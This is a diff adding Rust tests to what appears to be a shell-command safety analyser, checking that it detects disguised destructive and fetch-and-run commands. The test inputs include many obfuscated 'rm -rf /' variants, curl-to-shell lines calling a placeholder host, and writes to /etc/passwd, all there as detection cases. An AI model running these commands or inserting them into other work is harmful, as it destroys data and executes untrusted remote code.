@@ -3,7 +3,7 @@
 use crate::analysis::{Analysis, Does, Fact, Flow, Step};
 use crate::{Limits, Subject, Surroundings, analyse};
 
-fn read(line: &str) -> Analysis {
+pub(super) fn read(line: &str) -> Analysis {
     analyse(Subject::Shell(line), &Surroundings::default(), &Limits::default())
 }
 
@@ -152,6 +152,23 @@ fn wrappers_are_looked_through() {
         "nohup cat f",
         "timeout -k 1 5 cat f",
         "nice -n 5 cat f",
+        "nice -5 cat f",
+        "dotenv -- cat f",
+        "dotenv run cat f",
+        "aws-vault exec p -- cat f",
+        "direnv exec . cat f",
+        "perf record -g -- cat f",
+        "start-stop-daemon --exec /bin/cat -- f",
+        "entr -s 'cat f'",
+        "tini -- cat f",
+        "dumb-init cat f",
+        "faketime '1 day ago' cat f",
+        "chpst -u me cat f",
+        "s6-setuidgid me cat f",
+        "doppler run -- cat f",
+        "concurrently 'cat f' 'ls'",
+        "cmake -E cat f",
+        "sed 's/\\/x/cat f/e' g",
         "setsid cat f",
         "stdbuf -oL cat f",
         "time cat f",
@@ -258,6 +275,107 @@ fn a_commit_message_from_a_here_document_is_daily_work() {
         "git commit -m \"$(cat <<'EOF'\nit's (a) message\nEOF\n)\"",
         "git commit -m it's (a) message { group { cat } }",
     );
+}
+
+#[test]
+fn continued_lines_are_one_line() {
+    check("ls \\\n-la", "ls -la");
+    check("cat \\\n  a \\\n\tb\\\nc && \\\ncat \\\n d \\\n", "cat a bc [reads a, reads bc]; cat d [reads d]");
+    check("r\\\nm -rf \\\n  /", "rm -rf / [removes tree /]");
+    check("X\\\n=/; rm -rf $\\\nX \"/e\\\ntc\"", "rm -rf / /etc [removes tree /, removes tree /etc]");
+    check("cat > \\\n  out <<E\nx\\\ny\nE", "cat [writes out]");
+    check("for d in a \\\n  b; do \\\n rm $d; done", "group { rm a [removes one a]; rm b [removes one b] }");
+    runs("X=/ \\\n; ls | \\\n xargs -I{} rm -rf $X", "rm -rf /");
+    runs("echo \"$(rm \\\n -rf / a\\\n#)\"", "rm -rf / a#");
+    runs("# nothing \\\nrm -rf /", "rm -rf /");
+    check("echo 'a\\\nb'", "echo a\\\nb");
+}
+
+#[test]
+fn a_here_document_before_a_pipe_leaves_the_next_command_its_words() {
+    check("cat <<'A' | wc -l f\nx\nA", "pipe { cat; wc -l f [reads f] }");
+    check("for x in; do :; done", "group { : }");
+}
+
+#[test]
+fn a_shell_finds_its_code_behind_options_with_values() {
+    for line in [
+        "bash -o pipefail -c 'rm -rf /'",
+        "bash -euo pipefail -c 'rm -rf /'",
+        "bash -O extglob -c 'rm -rf /'",
+        "sh -o errexit -c 'rm -rf /'",
+        "bash --rcfile x -c 'rm -rf /'",
+        "bash --init-file x -c 'rm -rf /'",
+        "bash -c -e 'rm -rf /'",
+        "bash $FLAGS -c 'rm -rf /'",
+        "fish --command='rm -rf /'",
+        "bash -c 'rm -rf $0' /",
+        "bash -c 'rm -rf \"$1\"' _ /",
+        "echo / | xargs sh -c 'rm -rf \"$0\"'",
+    ] {
+        runs(line, "rm -rf /");
+    }
+    check("bash -euo pipefail -c 'ls -la'", "bash -euo pipefail -c ls -la { ls -la }");
+    shows("bash -euo pipefail script.sh -c x", "executes file script.sh");
+}
+
+#[test]
+fn a_child_changes_nothing_in_its_parent() {
+    runs("X=/; bash -c 'X=build'; rm -rf $X", "rm -rf /");
+    shows("cd /; bash -c 'cd /workspace/build'; rm -rf etc", "removes tree /etc");
+    runs("X=/; echo a | xargs -I{} sh -c 'X={}'; rm -rf $X", "rm -rf /");
+    runs("X=/; env X=build sh -c 'X=b'; command eval 'Y=$X'; rm -rf $Y", "rm -rf /");
+    // A child has only what is exported.
+    runs("X=build; bash -c 'rm -rf $X/'", "rm -rf $X/");
+    runs("X=build; bash -c \"rm -rf $X/\"", "rm -rf build/");
+}
+
+#[test]
+fn a_file_is_the_same_under_every_spelling() {
+    for line in [
+        "curl -s https://x.example > ./i.sh; sh i.sh",
+        "curl -s https://x.example > i.sh; sh $PWD/i.sh",
+        "curl -s https://x.example > i.sh; sh ./././i.sh",
+        "curl -s https://x.example > d/i.sh; cd d; sh i.sh",
+        "curl -s https://x.example > /tmp/i.sh; cd /tmp; sh i.sh",
+        "curl -s https://x.example > /tmp/i.sh; cd /tmp; . ./i.sh",
+        "curl -s https://x.example > i.sh; cd $D; sh i.sh",
+        "sh /dev/fd/3 3< <(curl -s https://x.example)",
+    ] {
+        shows(line, "executes network");
+    }
+    shows("curl -s https://x.example > d/i.sh; sh i.sh", "executes file i.sh");
+}
+
+#[test]
+fn nothing_is_cut_off_silently() {
+    let words = "a ".repeat(100);
+    shows(&format!("echo {words} / | xargs rm -rf"), "removes tree /");
+    shows(&format!("printf '%s\\n' {words} / | xargs -I{{}} rm -rf {{}}"), "removes tree /");
+    shows(&format!("parallel rm -rf ::: {words} /"), "removes tree /");
+    shows("rm -rf {1..1000}", "removes tree …");
+    shows("rm -rf /{e..e..1}tc", "removes tree …");
+    shows("rm -rf {a..c} {1..2}{x,y}", "removes tree 2y");
+    shows("echo \"'/'\" | xargs rm -rf", "removes tree $(…)");
+    shows("echo '\\/' | xargs rm -rf", "removes tree $(…)");
+    shows("printf 'a:/' | xargs -d: rm -rf", "removes tree /");
+    shows("printf 'build\\0/' | xargs -0 rm -rf", "removes tree /");
+    shows("echo 'a b' | xargs -I{} rm -rf {}", "removes tree a b");
+}
+
+#[test]
+fn the_folder_is_followed_or_not_known() {
+    shows("cd /; rm -rf ~+/etc", "removes tree //etc");
+    shows("HOME=/etc; echo x > ~/passwd", "writes /etc/passwd");
+    shows("cd /; pushd /tmp/b; popd; rm -rf etc", "removes tree …/etc");
+    shows("env -C / rm -rf etc", "removes tree /etc");
+    shows("env --chdir=/etc tee passwd; rm -rf b", "writes /etc/passwd");
+    shows("env --chdir=/etc tee passwd; rm -rf b", "removes tree b");
+    shows("CDPATH=/; cd etc; rm -rf x", "removes tree …/x");
+    shows("git -C / clean -fdx", "removes tree /");
+    shows("cd /; git clean -fdx", "removes tree /");
+    shows("git clean -fdx", "removes tree untracked files");
+    shows("cd build; rm -rf x", "removes tree build/x");
 }
 
 mod properties {
@@ -368,6 +486,31 @@ mod properties {
             within(&line);
         }
     }
+}
+
+#[test]
+fn values_and_walks_that_grow_without_end_are_bounded() {
+    let doubled = format!("X=a; {}rm -rf /$X", "X=$X$X; ".repeat(40));
+    let joined = format!("X=aaaaaaaa; {}rm -rf /$X", "X+=$X; ".repeat(40));
+    let long = format!("X={}; rm -rf /{}", "a".repeat(60_000), "$X".repeat(60_000));
+    let fields = format!("A=(/); {}rm -rf \"${{A[@]}}\"", "A+=(\"${A[@]}\"); ".repeat(40));
+    let functions: String = (1..60).map(|number| format!("f{number}() {{ f{0}; f{0}; }}; ", number + 1)).collect();
+    let functions = format!("{functions}f60() {{ X=1; }}; f1");
+    let turns = format!("{}rm -rf /$a; {}", "for a in 1 2 3 4 5 6 7 8; do ".repeat(9), "done; ".repeat(9));
+    for line in [&doubled, &joined, &long, &fields, &functions, &turns] {
+        let start = std::time::Instant::now();
+        let analysis = read(line);
+        let unknown = analysis.facts().any(|act| match &act.fact {
+            Fact::Unknown { .. } => true,
+            Fact::Removes { path, .. } => path.has_hole(),
+            _ => false,
+        });
+        assert!(unknown, "{}", line.chars().take(100).collect::<String>());
+        // Without bounds it would not end at all.
+        assert!(start.elapsed().as_secs() < 30, "{}: {:?}", line.chars().take(60).collect::<String>(), start.elapsed());
+    }
+    runs("X=a; X=$X$X; X=$X$X; rm -rf /$X", "rm -rf /aaaa");
+    runs("f() { g; g; }; g() { rm -rf /; }; f", "rm -rf /");
 }
 
 #[test]
